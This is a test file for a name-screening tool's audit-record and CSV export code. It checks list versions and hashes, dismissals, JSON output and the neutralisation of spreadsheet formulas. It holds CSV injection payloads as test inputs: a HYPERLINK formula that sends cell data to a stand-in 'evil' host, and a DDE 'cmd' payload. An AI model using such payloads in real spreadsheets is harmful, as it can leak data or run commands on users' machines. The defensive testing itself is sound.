// Audit records: what a bulk or page record holds (lists with version and SHA-256, the
// settings, every name checked including clear ones, dismissals with reasons), the CSV
// export (RFC 4180 quoting, formula injection neutralised, same columns as the CLI) and
// JSON. List data and names are hostile input: they must come out as text.
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildCompiledData } from '../../scripts/build-data';
import { Matcher } from '../../src/core/matcher';
import type { CompiledData } from '../../src/core/types';
import { lookupFromCompiled } from '../../src/ui/presentation/lookup';
import {
  BULK_CSV_COLUMNS,
  PAGE_CSV_COLUMNS,
  buildBulkRecord,
  buildPageRecord,
  bulkCsv,
  csvCell,
  dismissalFor,
  evidenceText,
  pageCsv,
  recordFileName,
  recordJson,
  sha256Hex,
  toCsv,
  type Dismissal,
  type RecordContext,
} from '../../src/ui/presentation/audit';
import { inputsFromLines, screenAll } from '../../src/formats/tables';
import { fixtureData, fixtureResults } from './helpers/popup-fixtures';

const OHCHR = 'ohchr-bhr-database-hrc-31-36';
const WP = 'whoprofits';
let data: CompiledData;
beforeAll(() => {
  data = buildCompiledData();
});

const parseCsv = (text: string) => Papa.parse<string[]>(text.replace(/\r\n$/, ''), { delimiter: ',' });
const NOW = () => new Date('2026-11-23T14:05:09.123Z');

function context(over: Partial<RecordContext> = {}): RecordContext {
  return {
    lists: data.lists,
    enabledLists: { [WP]: false },
    dismissals: [],
    lookup: lookupFromCompiled(data),
    generator: { name: 'Settlement Screen', version: '9.9.9' },
    now: NOW,
    ...over,
  };
}

function bulk(names: string[], over: Partial<RecordContext> = {}) {
  const ctx = context(over);
  const enabled = new Set(ctx.lists.filter((l) => ctx.enabledLists[l.id] !== false).map((l) => l.id));
  const rows = screenAll(Matcher.fromData(data, { enabledLists: enabled }), inputsFromLines(names.join('\n')));
  return buildBulkRecord(ctx, rows, {
    fileName: 'bidders.csv',
    sha256: 'f'.repeat(64),
    bytes: 123,
    format: 'csv',
    sheet: null,
    column: 'A (Name)',
    header: true,
  });
}

describe('CSV cells', () => {
  it('neutralises cells a spreadsheet would read as a formula', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+31 20 123')).toBe("'+31 20 123");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tcmd')).toBe('"\'\tcmd"');
    expect(csvCell('\r=cmd')).toBe('"\'\r=cmd"');
    expect(csvCell('  =1+1')).toBe("'  =1+1");
    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""x"")"');
    // Ordinary text is left alone; a dash or an @ inside is fine.
    expect(csvCell('Acme - Holdings @ Gent')).toBe('Acme - Holdings @ Gent');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
  });

  it('quotes what needs quoting, and a CSV parser reads back exactly the (neutralised) text', () => {
    const cells = [
      'Motorola Solutions, Inc.',
      'He said "no"',
      'two\nlines',
      'semi;colon',
      ' padded ',
      "=cmd|' /C calc'!A0",
      'plain',
    ];
    const text = toCsv([cells]);
    expect(text.endsWith('\r\n')).toBe(true);
    const back = parseCsv(text);
    expect(back.errors).toEqual([]);
    expect(back.data[0]).toEqual(cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
  });

  it('writes evidence in a compact language-neutral form', () => {
    expect(
      evidenceText([
        { kind: 'legal-form', text: 'NV' },
        { kind: 'field', field: 'supplier' },
        { kind: 'no-corroboration', reason: 'acronym' },
        { kind: 'link-not-current', status: 'historical', note: 'sold in 2020' },
        { kind: 'delisted-only' },
      ]),
    ).toBe(
      'legal-form: NV; field: supplier; no-corroboration: acronym; link-not-current: historical (sold in 2020); delisted-only',
    );
  });
});

describe('bulk audit record', () => {
  it('states when, what input, which lists (version, SHA-256, on/off) and the settings', () => {
    const r = bulk(['Elbit Systems Ltd', 'Acme Bakery BV']);
    expect(r.format).toBe('settlement-screen-audit-record');
    expect(r.kind).toBe('bulk');
    expect(r.createdAt).toBe('2026-11-23T14:05:09.123Z');
    expect(r.generator).toEqual({ name: 'Settlement Screen', version: '9.9.9' });
    expect(r.input).toMatchObject({ fileName: 'bidders.csv', sha256: 'f'.repeat(64), column: 'A (Name)' });
    expect(r.lists.map((l) => l.id)).toEqual(data.lists.map((l) => l.id));
    for (const l of r.lists) {
      const meta = data.lists.find((x) => x.id === l.id)!;
      expect(l.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(l).toMatchObject({
        title: meta.title,
        publisher: meta.publisher,
        published: meta.published,
        version: meta.version,
        sha256: meta.sha256,
      });
    }
    expect(r.lists.find((l) => l.id === WP)!.enabled).toBe(false);
    expect(r.lists.find((l) => l.id === OHCHR)!.enabled).toBe(true);
    expect(r.settings.enabledLists[WP]).toBe(false);
    expect(Object.keys(r.settings.enabledLists).sort()).toEqual(data.lists.map((l) => l.id).sort());
  });

  it('lists every name checked, the clear ones included, with counts', () => {
    const r = bulk(['Elbit Systems Ltd', 'Acme Bakery BV', 'Volvo Cars', 'CAT']);
    expect(r.rows.map((x) => [x.row, x.input, x.result, x.source])).toEqual([
      [1, 'Elbit Systems Ltd', 'flag', 'line 1'],
      [2, 'Acme Bakery BV', 'clear', 'line 2'],
      [3, 'Volvo Cars', 'clear', 'line 3'],
      [4, 'CAT', 'possible', 'line 4'],
    ]);
    expect(r.counts).toEqual({ checked: 4, flag: 1, possible: 1, removed: 0, clear: 2 });
    // The look-alike left clear says what it is not.
    expect(r.rows[2].lookalikes[0]).toMatchObject({ text: 'Volvo Cars', notEntityName: 'Volvo Group' });
    expect(r.rows[3].matches[0].evidence).toContainEqual({ kind: 'no-corroboration', reason: expect.any(String) });
  });

  it('keeps only entries of lists that were switched on, with their criteria', () => {
    const on = bulk(['Caterpillar Inc.'], { enabledLists: {} });
    const off = bulk(['Caterpillar Inc.']);
    const lists = (r: typeof on) => r.entities.flatMap((e) => e.entries.map((x) => x.list));
    expect(lists(on)).toContain(WP);
    expect(lists(off)).not.toContain(WP);
    expect(off.rows[0].matches[0].lists.map((l) => l.list)).not.toContain(WP);
  });

  it('records every dismissal in force with its reason, and marks the matches it covers', () => {
    const dismissals: Dismissal[] = [
      {
        entityName: 'ELBIT SYSTEMS',
        scope: 'everywhere',
        site: null,
        reason: 'Checked with legal: different Elbit',
        createdAt: '2026-10-01T09:00:00Z',
      },
      {
        entityName: 'Caterpillar',
        scope: 'site',
        site: 'bol.com',
        reason: 'Toy brand on this shop',
        createdAt: '2026-10-02T09:00:00Z',
      },
    ];
    const r = bulk(['Elbit Systems Ltd', 'Caterpillar Inc.'], { dismissals });
    expect(r.dismissals).toEqual(dismissals);
    expect(r.rows[0].matches[0].dismissed).toMatchObject({
      reason: 'Checked with legal: different Elbit',
      scope: 'everywhere',
    });
    // A dismissal limited to a site does not apply to a bulk screening (no site).
    expect(r.rows[1].matches[0].dismissed).toBeNull();
    expect(dismissalFor(dismissals, 'Caterpillar', 'www.bol.com')?.reason).toBe('Toy brand on this shop');
    expect(dismissalFor(dismissals, 'Caterpillar', 'notbol.com')).toBeNull();
  });

  it('exports CSV with the columns the CLI uses: one line per list entry, clear rows kept', () => {
    const r = bulk(['Elbit Systems Ltd', 'Acme Bakery BV', '=HYPERLINK("http://evil")', 'Caterpillar Inc.'], {
      enabledLists: {},
    });
    const csv = bulkCsv(r);
    const { data: lines, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(lines[0]).toEqual([...BULK_CSV_COLUMNS]);
    const col = (name: (typeof BULK_CSV_COLUMNS)[number]) => BULK_CSV_COLUMNS.indexOf(name);
    const body = lines.slice(1);
    expect(body.every((l) => l.length === BULK_CSV_COLUMNS.length)).toBe(true);
    // Every row appears, the clear ones too.
    expect([...new Set(body.map((l) => l[col('row')]))]).toEqual(['1', '2', '3', '4']);
    expect(body.find((l) => l[col('row')] === '2')![col('result')]).toBe('clear');
    // The formula arrives as text.
    expect(body.find((l) => l[col('row')] === '3')![col('input')]).toBe('\'=HYPERLINK("http://evil")');
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    // Caterpillar is on several lists: one line per list entry, each with that list's version and hash.
    const cat = body.filter((l) => l[col('row')] === '4');
    expect(cat.length).toBeGreaterThan(1);
    for (const l of cat) {
      const list = data.lists.find((x) => x.id === l[col('list_id')])!;
      expect(l[col('list_version')]).toBe(list.version);
      expect(l[col('list_sha256')]).toBe(list.sha256);
    }
    expect(body[0][col('checked_at')]).toBe('2026-11-23T14:05:09.123Z');
    expect(body[0][col('input_sha256')]).toBe('f'.repeat(64));
    expect(body[0][col('lists_checked')]).toContain(`${OHCHR}@`);
  });

  it('names every list with its kind, version and SHA-256, the new lists included', () => {
    const r = bulk(['Bank Leumi Le-Israel B.M.', 'Binyanei Bar Amana Ltd.'], { enabledLists: {} });
    expect(r.lists.map((l) => l.id)).toEqual(data.lists.map((l) => l.id));
    for (const l of r.lists) {
      expect(l.sha256, l.id).toMatch(/^[0-9a-f]{64}$/);
      expect(l.kind, l.id).not.toBeNull();
    }
    const kinds = Object.fromEntries(r.lists.map((l) => [l.id, l.kind]));
    expect(kinds['investor-exclusions-norway-gpfg']).toBe('investor-exclusion');
    expect(kinds['us-sanctions-eo-14115-historical']).toBe('sanctions');
    expect(r.lists.find((l) => l.id === 'us-sanctions-eo-14115-historical')!.historical).toBe(true);
    // The record's entities keep what the lists say: standing, decision date, history.
    const leumi = r.entities.find((e) => e.displayName === 'Bank Leumi Le-Israel Ltd.')!;
    const gpfg = leumi.entries.find((e) => e.list === 'investor-exclusions-norway-gpfg')!;
    expect([gpfg.standing, gpfg.standingOn, gpfg.decidedBy]).toEqual(['excluded', '2025-08-25', 'Norges Bank']);
    expect(gpfg.history!.at(-1)).toEqual({ date: '2025-08-25', event: 'excluded', note: 'Norges Bank' });

    const { data: lines } = parseCsv(bulkCsv(r));
    const col = (name: (typeof BULK_CSV_COLUMNS)[number]) => BULK_CSV_COLUMNS.indexOf(name);
    const body = lines.slice(1);
    // Every line names every list checked with its SHA-256.
    for (const l of data.lists)
      expect(body[0][col('lists_checked_sha256')]).toContain(`${l.id}@${l.version} sha256:${l.sha256}`);
    const line = (list: string) => body.find((l) => l[col('list_id')] === list)!;
    expect(line('investor-exclusions-norway-gpfg')[col('list_kind')]).toBe('investor-exclusion');
    expect(line('investor-exclusions-norway-gpfg')[col('entry_standing')]).toBe('excluded');
    expect(line('investor-exclusions-norway-gpfg')[col('entry_standing_date')]).toBe('2025-08-25');
    expect(line('investor-exclusions-isif')[col('entry_standing')]).toBe('divested');
    const us = line('us-sanctions-eo-14115-historical');
    expect([us[col('entry_status')], us[col('entry_standing')], us[col('entry_standing_date')]]).toEqual([
      'delisted',
      'revoked',
      '2025-01-20',
    ]);
  });

  it('leaves switched-off lists out of lists_checked', () => {
    const csv = bulkCsv(bulk(['Acme']));
    expect(csv).not.toContain(`${WP}@`);
  });

  it('exports JSON that reads back as the same record, under a dated file name', () => {
    const r = bulk(['Elbit Systems Ltd']);
    expect(JSON.parse(recordJson(r))).toEqual(JSON.parse(JSON.stringify(r)));
    expect(recordFileName(r, 'csv')).toBe('settlement-screen-bulk-2026-11-23T1405Z.csv');
  });
});

describe('page audit record', () => {
  const lookup = lookupFromCompiled(fixtureData);
  const ctx = (dismissals: Dismissal[] = []): RecordContext => ({
    lists: fixtureData.lists,
    enabledLists: { wp: false },
    dismissals,
    lookup,
    generator: { name: 'Settlement Screen', version: '1.0.0' },
    now: NOW,
  });

  it('holds the page, the popup sections with their evidence, look-alikes and counts', () => {
    const r = buildPageRecord(ctx(), fixtureResults());
    expect(r.kind).toBe('page');
    expect(r.page.url).toMatch(/^https?:/);
    expect(r.findings.map((f) => [f.section, f.entity])).toEqual([
      ['flag', 'acme'],
      ['flag', 'amana'],
      ['possible', 'partner'],
      ['removed', 'gone'],
    ]);
    expect(r.counts).toMatchObject({ flag: 2, possible: 1, removed: 1 });
    const acme = r.findings[0];
    expect(acme.matches[0].occurrences).toBe(2);
    expect(r.entities.find((e) => e.id === 'acme')!.entries[0].criteria.length).toBe(2);
    expect(r.lists.find((l) => l.id === 'wp')!.enabled).toBe(false);
  });

  it('applies a dismissal for this site, and records it', () => {
    const host = new URL(fixtureResults().frames['0'].url).hostname;
    const d: Dismissal = {
      entityName: '<b>Acme</b> Holdings Ltd.',
      scope: 'site',
      site: host,
      reason: 'Other Acme',
      createdAt: '2026-01-01T00:00:00Z',
    };
    const r = buildPageRecord(ctx([d]), fixtureResults());
    expect(r.dismissals).toEqual([d]);
    expect(r.findings[0].dismissed?.reason).toBe('Other Acme');
    expect(r.findings[1].dismissed).toBeNull();
  });

  it('exports page CSV with one line per matched text and entry', () => {
    const csv = pageCsv(buildPageRecord(ctx(), fixtureResults()));
    const { data: lines, errors } = parseCsv(csv);
    expect(errors).toEqual([]);
    expect(lines[0]).toEqual([...PAGE_CSV_COLUMNS]);
    expect(lines.slice(1).map((l) => l[0])).toContain('flag');
    // List data with markup stays text in the CSV.
    expect(csv).toContain('<b>Acme</b> Holdings Ltd.');
  });
});

describe('sha256Hex', () => {
  it('matches the standard test vector, for bytes and text alike', async () => {
    const abc = 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad';
    expect(await sha256Hex('abc')).toBe(abc);
    expect(await sha256Hex(new TextEncoder().encode('abc'))).toBe(abc);
  });
});
